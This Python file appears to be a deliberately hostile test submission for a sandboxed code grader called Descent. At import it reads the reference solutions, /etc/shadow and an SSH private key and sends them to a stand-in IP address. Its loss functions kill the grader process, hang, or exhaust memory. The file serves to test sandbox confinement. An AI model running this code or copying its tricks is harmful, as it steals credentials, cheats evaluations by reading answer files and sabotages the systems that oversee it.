# mallory: a hostile submission, kept harmless even where it would run unconfined (it never
# deletes, never signals anything but its own parent, never writes outside /tmp). Every attempt
# below fails inside Descent's confined worker; the graders then score it like any other code.
import os
import socket

import torch

_LOOT = []
for _target in ("../../solutions/losses.py", "/etc/shadow", os.path.expanduser("~/.ssh/id_rsa")):
    try:
        with open(_target) as _fh:
            _LOOT.append(_fh.read(200))           # reading the reference or secrets
    except OSError:
        pass
try:
    socket.create_connection(("198.51.100.7", 80), timeout=1).sendall(repr(_LOOT).encode())
except OSError:
    pass
try:
    with open("/tmp/descent-was-here", "w") as _fh:  # leaving something behind for later
        _fh.write("mallory")
except OSError:
    pass


def mse_forward(pred, target):
    try:
        os.kill(os.getppid(), 9)                      # take the grader down with it
    except OSError:
        pass
    return ((pred - target) ** 2).mean()


def mae_forward(pred, target):
    while True:                                       # never returns: the call time limit ends it
        pass


def huber_forward(pred, target, delta=1.0):
    hog = []
    while True:                                       # allocate until something stops it
        hog.append(torch.ones(64 << 20, dtype=torch.uint8))
